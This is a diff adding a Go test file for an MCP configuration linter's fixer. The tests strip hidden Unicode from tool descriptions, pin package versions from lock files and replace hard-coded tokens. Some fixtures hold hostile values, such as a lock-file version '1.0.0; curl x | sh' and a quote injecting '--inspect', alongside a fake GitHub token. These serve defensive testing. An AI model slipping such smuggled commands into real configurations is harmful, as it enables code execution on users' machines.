@@ -1,0 +1,183 @@
+package fix_test
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/org/mcp-lint/internal/fix"
+	"github.com/org/mcp-lint/lint"
+)
+
+// key is put together here, so that scanners of this repository do not take it for a real one.
+var key = "ghp_" + "R7kQ2mZx9TbW4vNc8LpYs3HdJf6GaE" + "1UuOq5"
+
+const hidden = "\u200b\u202e\u2063"
+
+// plan writes files, scans them and plans their changes.
+func plan(t *testing.T, files map[string]string) (dir string, planned map[string]fix.File) {
+	t.Helper()
+	dir = t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git"), 0o700))
+	for name, text := range files {
+		full := filepath.Join(dir, name)
+		require.NoError(t, os.MkdirAll(filepath.Dir(full), 0o700))
+		require.NoError(t, os.WriteFile(full, []byte(text), 0o600))
+	}
+	opts := lint.Options{Cwd: dir}
+	r, err := lint.Run(opts)
+	require.NoError(t, err)
+	list, err := fix.Plan(r, opts)
+	require.NoError(t, err)
+	planned = map[string]fix.File{}
+	for _, f := range list {
+		planned[filepath.ToSlash(f.Path)] = f
+	}
+	return dir, planned
+}
+
+const npmLock = `{"lockfileVersion": 3, "packages": {"": {}, "node_modules/@acme/tides": {"version": "2.4.1"},
+	"node_modules/other/node_modules/@acme/tides": {"version": "1.0.0"}}}`
+
+// TestFixes holds that only the bytes of the fault change, in every notation.
+func TestFixes(t *testing.T) {
+	for name, c := range map[string]struct {
+		file, before, after string
+		beside              map[string]string
+	}{
+		"hidden, JSON": {
+			"tools.json", "{\n  \"tools\": [ {\"name\": \"read\",\t\"description\": \"Reads" + hidden + " a file.\"} ]\n}\n",
+			"{\n  \"tools\": [ {\"name\": \"read\",\t\"description\": \"Reads a file.\"} ]\n}\n", nil,
+		},
+		"hidden, escapes": {
+			"tools.json", `{"tools": [{"name": "read", "description": "Reads\u200b\u202E\u2063 a file."}]}`,
+			`{"tools": [{"name": "read", "description": "Reads a file."}]}`, nil,
+		},
+		"hidden, YAML": {
+			"tools.yaml", "# kept\ntools:\n  - name: read  # too\n    description: >-\n      Reads\n      a" + hidden + " file.\n",
+			"# kept\ntools:\n  - name: read  # too\n    description: >-\n      Reads\n      a file.\n", nil,
+		},
+		"hidden, Python": {
+			"server.py", "from mcp.server.fastmcp import FastMCP\nmcp = FastMCP('s')\n\n@mcp.tool()\ndef read(path: str) -> str:\n    \"\"\"Reads" +
+				hidden + " a file.\"\"\"\n    return ''\n",
+			"from mcp.server.fastmcp import FastMCP\nmcp = FastMCP('s')\n\n@mcp.tool()\ndef read(path: str) -> str:\n    \"\"\"Reads a file.\"\"\"\n    return ''\n", nil,
+		},
+		"hidden, TOML": {
+			".codex/config.toml", "[mcp_servers.tides] # kept\ncommand = \"node\"\nargs = [\"a.js\"]\n\n[mcp_servers.tides.env]\nNOTE = \"x" + hidden + "y\"\n",
+			"[mcp_servers.tides] # kept\ncommand = \"node\"\nargs = [\"a.js\"]\n\n[mcp_servers.tides.env]\nNOTE = \"xy\"\n", nil,
+		},
+		"version, npm": {
+			".mcp.json", `{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides"]}}}`,
+			`{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides@2.4.1"]}}}`,
+			map[string]string{"package-lock.json": npmLock},
+		},
+		"version, moving tag, JSONC": {
+			".vscode/mcp.json", "{ // kept\n  \"servers\": {\"tides\": {\"command\": \"npx\", \"args\": [\"-y\", \"@acme/tides@latest\",]}}\n}\n",
+			"{ // kept\n  \"servers\": {\"tides\": {\"command\": \"npx\", \"args\": [\"-y\", \"@acme/tides@2.4.1\",]}}\n}\n",
+			map[string]string{"package-lock.json": npmLock},
+		},
+		"version, pnpm": {
+			".mcp.json", `{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides"]}}}`,
+			`{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides@2.4.1"]}}}`,
+			map[string]string{"pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      '@acme/tides':\n        specifier: ^2\n        version: 2.4.1(zod@3.1.0)\n"},
+		},
+		"version, yarn": {
+			".mcp.json", `{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides"]}}}`,
+			`{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides@2.4.1"]}}}`,
+			map[string]string{"yarn.lock": "\"@acme/tides@^2.0.0\":\n  version \"2.4.1\"\n  resolved \"https://registry.yarnpkg.com/x\"\n"},
+		},
+		"version, uv": {
+			".mcp.json", `{"mcpServers": {"tides": {"command": "uvx", "args": ["acme-tides"]}}}`,
+			`{"mcpServers": {"tides": {"command": "uvx", "args": ["acme-tides==0.9.3"]}}}`,
+			map[string]string{"uv.lock": "version = 1\n\n[[package]]\nname = \"acme_tides\"\nversion = \"0.9.3\"\n"},
+		},
+		"version, registry entry": {
+			".mcp.json", `{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides"]}}}`,
+			`{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides@3.0.0"]}}}`,
+			map[string]string{"server.json": `{"$schema": "https://static.modelcontextprotocol.io/schemas/2025-10-17/server.schema.json", "name": "io.github.acme/tides", "description": "Tides.", "version": "3.0.0", "packages": [{"registryType": "npm", "identifier": "@acme/tides", "version": "3.0.0", "transport": {"type": "stdio"}}]}`},
+		},
+		"credential, Claude Code": {
+			".mcp.json", `{"mcpServers": {"tides": {"command": "node", "args": ["a.js"], "env": {"GITHUB_TOKEN": "` + key + `"}}}}`,
+			`{"mcpServers": {"tides": {"command": "node", "args": ["a.js"], "env": {"GITHUB_TOKEN": "${GITHUB_TOKEN}"}}}}`, nil,
+		},
+		"credential, Cursor": {
+			".cursor/mcp.json", `{"mcpServers": {"tides": {"command": "node", "args": ["a.js"], "env": {"GITHUB_TOKEN": "` + key + `"}}}}`,
+			`{"mcpServers": {"tides": {"command": "node", "args": ["a.js"], "env": {"GITHUB_TOKEN": "${env:GITHUB_TOKEN}"}}}}`, nil,
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			files := map[string]string{c.file: c.before}
+			for n, text := range c.beside {
+				files[n] = text
+			}
+			dir, planned := plan(t, files)
+			f, ok := planned[c.file]
+			require.True(t, ok, "nothing is offered")
+			require.Empty(t, f.Why)
+			assert.Equal(t, c.after, string(f.After))
+			assert.Equal(t, c.before, string(f.Before))
+			// The scan of the changed file offers nothing more, and a second run changes nothing.
+			require.NoError(t, os.WriteFile(filepath.Join(dir, c.file), f.After, 0o600))
+			opts := lint.Options{Cwd: dir}
+			r, err := lint.Run(opts)
+			require.NoError(t, err)
+			again, err := fix.Plan(r, opts)
+			require.NoError(t, err)
+			assert.Empty(t, again)
+		})
+	}
+}
+
+// TestNotFixed holds that what is not certain stays as it is.
+func TestNotFixed(t *testing.T) {
+	launch := `{"mcpServers": {"tides": {"command": "npx", "args": ["-y", "@acme/tides"]}}}`
+	for name, files := range map[string]map[string]string{
+		"no lock file":                {".mcp.json": launch},
+		"other package":               {".mcp.json": launch, "package-lock.json": `{"packages": {"node_modules/@acme/tide": {"version": "1.0.0"}}}`},
+		"two versions":                {".mcp.json": launch, "yarn.lock": "\"@acme/tides@1\":\n  version \"1.0.0\"\n\n\"@acme/tides@2\":\n  version \"2.0.0\"\n"},
+		"a command":                   {".mcp.json": launch, "package-lock.json": `{"packages": {"node_modules/@acme/tides": {"version": "1.0.0; curl x | sh"}}}`},
+		"an address":                  {".mcp.json": launch, "package-lock.json": `{"packages": {"node_modules/@acme/tides": {"version": "https://x.example/a.tgz"}}}`},
+		"a quote":                     {".mcp.json": launch, "package-lock.json": `{"packages": {"node_modules/@acme/tides": {"version": "1\", \"--inspect"}}}`},
+		"a broken lock":               {".mcp.json": launch, "package-lock.json": `{"packages": {"node_modules/@acme/tides": {"version": "1.0.0"}`},
+		"part of a header":            {".mcp.json": `{"mcpServers": {"tides": {"command": "sh", "args": ["-c", "TOKEN=` + key + ` node a.js"]}}}`},
+		"an input's matter":           {".vscode/mcp.json": `{"servers": {"tides": {"command": "node", "args": ["a.js"], "env": {"GITHUB_TOKEN": "` + key + `"}}}}`},
+		"a lock above the repository": {"inner/.git/HEAD": "x", "inner/.mcp.json": launch, "package-lock.json": npmLock},
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, planned := plan(t, files)
+			for path, f := range planned {
+				assert.Nil(t, f.After, "%s becomes %s", path, f.After)
+			}
+		})
+	}
+}
+
+// TestHostileFiles holds that links are not followed and that a change of more than the fault is none.
+func TestHostileFiles(t *testing.T) {
+	text := "{\"tools\": [{\"name\": \"read\", \"description\": \"Reads" + hidden + " a file.\"}]}"
+	dir := t.TempDir()
+	victim := filepath.Join(t.TempDir(), "victim.json")
+	require.NoError(t, os.WriteFile(victim, []byte(text), 0o600))
+	require.NoError(t, os.Symlink(victim, filepath.Join(dir, "tools.json")))
+	opts := lint.Options{Cwd: dir, Paths: []string{"tools.json"}}
+	r, err := lint.Run(opts)
+	require.NoError(t, err)
+	list, err := fix.Plan(r, opts)
+	require.NoError(t, err)
+	for _, f := range list {
+		assert.Nil(t, f.After)
+	}
+	var many []string
+	for i := range 300 {
+		many = append(many, fmt.Sprintf(`{"name": "t%d", "description": "x`+hidden+` y"}`, i))
+	}
+	_, planned := plan(t, map[string]string{"tools.json": `{"tools": [` + strings.Join(many, ",") + `]}`})
+	require.Len(t, planned, 1)
+	assert.Equal(t, 300, planned["tools.json"].Fixed)
+	assert.NotContains(t, string(planned["tools.json"].After), "\u200b")
+}
